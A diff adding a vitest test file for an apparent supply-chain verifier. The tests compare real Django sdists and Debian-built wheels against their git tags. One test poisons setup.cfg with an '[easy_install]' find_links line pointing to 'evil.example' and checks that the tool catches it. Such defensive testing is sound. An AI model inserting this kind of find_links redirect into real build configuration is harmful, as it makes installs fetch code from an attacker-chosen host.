@@ -1,0 +1,77 @@
+import { describe, expect, it } from 'vitest';
+import type { ArchiveListing } from '../../src/archive/member.js';
+import { judgeContent } from '../../src/rules/content/judge.js';
+import type { Check } from '../../src/verdict/check.js';
+import { editFile } from '../helpers/poison.js';
+import { REAL_RELEASES, readRealSdist, realSdistPath, realTag, type RealVersion } from '../helpers/real-tag.js';
+import { realWheel, type Toolchain, toolchainAvailable } from '../helpers/real-wheel.js';
+
+/**
+ * Real history is the judge: the real Django sdists (2.2.28, 3.2.25, 4.2.28, 5.2.17, fetched by
+ * get-django-sdists.sh) against their tags, and the wheels Debian's real setuptools and wheel build
+ * from them — bookworm's (setuptools 66: the layout before PEP 639) and trixie's (setuptools 78:
+ * PEP 639's licenses/, Metadata-Version 2.4). Every file is identical to the tag's or recomputed
+ * from what the tag declares, and the report names each derivation.
+ */
+const TOOLCHAINS: Record<RealVersion, Toolchain[]> = {
+  '2.2.28': ['bookworm'],
+  '3.2.25': ['bookworm'],
+  '4.2.28': ['bookworm', 'trixie'],
+  // pyproject.toml declares `license = "BSD-3-Clause"` (PEP 639): only setuptools 77 and later can build it.
+  '5.2.17': ['trixie'],
+};
+
+async function judgeRelease(version: RealVersion, edit?: (sdist: ArchiveListing) => ArchiveListing) {
+  const release = REAL_RELEASES[version];
+  const original = await readRealSdist(realSdistPath(version)!);
+  const sdist = edit ? edit(original) : original;
+  const tag = realTag(version, original);
+  const wheels = [];
+  for (const toolchain of TOOLCHAINS[version].filter(toolchainAvailable)) {
+    const { listing, filename } = await realWheel(realSdistPath(version)!, toolchain);
+    wheels.push({ channels: toolchain, input: { filename, members: listing.members, kept: listing.kept } });
+  }
+  return judgeContent({
+    release: version,
+    project: 'Django',
+    waivers: [],
+    tag: { name: version, commit: '0'.repeat(40), ...tag },
+    tagWanted: true,
+    sdists: [{ channels: 'site', input: { filename: release.file, topDirectory: release.top, members: sdist.members, kept: sdist.kept } }],
+    wheels,
+  });
+}
+
+const statuses = (checks: Check[]) => checks.map((c) => `${c.id} ${c.status}`);
+
+describe.each(Object.keys(REAL_RELEASES) as RealVersion[])('the real Django %s', (version) => {
+  const present = realSdistPath(version) !== undefined;
+
+  it.skipIf(!present)('passes: the sdist against its tag, every generated file and every wheel explained', async () => {
+    const { checks, differences } = await judgeRelease(version);
+    const wheels = TOOLCHAINS[version].filter(toolchainAvailable).length;
+    expect(statuses(checks), checks.filter((c) => c.status !== 'pass').map((c) => c.message).join('\n')).toEqual([
+      'content.sdist-vs-git pass',
+      'content.sdist-metadata pass',
+      ...Array.from({ length: wheels }, () => ['content.wheel-vs-sdist pass', 'content.wheel-record pass', 'content.wheel-metadata pass']).flat(),
+    ]);
+    // Nothing is allowed by its path alone: every allowed difference names its rule and what it was recomputed from.
+    for (const difference of differences.filter((d) => d.allowed)) {
+      expect(difference.rule, difference.path).toBeTruthy();
+      expect(difference.derivedFrom ?? difference.waiver, difference.path).toBeTruthy();
+    }
+    const derived = new Map(differences.filter((d) => d.allowed).map((d) => [d.path, d]));
+    expect(derived.get('Django.egg-info/requires.txt')?.derivedFrom).toMatch(/install_requires|dependencies/);
+    expect(derived.get('PKG-INFO')?.rule).toBe('core-metadata');
+    expect(derived.get('Django.egg-info/SOURCES.txt')?.rule).toBe('egg-info');
+  }, 180_000);
+
+  it.skipIf(!present)('fails the same sdist with an extra section in its setup.cfg (the tag\'s rewritten, or the one only the sdist has)', async () => {
+    const top = REAL_RELEASES[version].top;
+    // easy_install's find_links sends the build's setup_requires to a host of the attacker's choosing.
+    const { checks } = await judgeRelease(version, (sdist) => editFile(sdist, `${top}/setup.cfg`, (text) => `${text}\n[easy_install]\nfind_links = https://evil.example/\n`));
+    const failed = checks.filter((c) => c.status === 'fail');
+    expect(failed.map((c) => c.id)).toEqual([version.startsWith('4') || version.startsWith('5') ? 'content.sdist-metadata' : 'content.sdist-vs-git']);
+    expect(failed[0]!.message).toMatch(/\[easy_install\]/);
+  }, 180_000);
+});
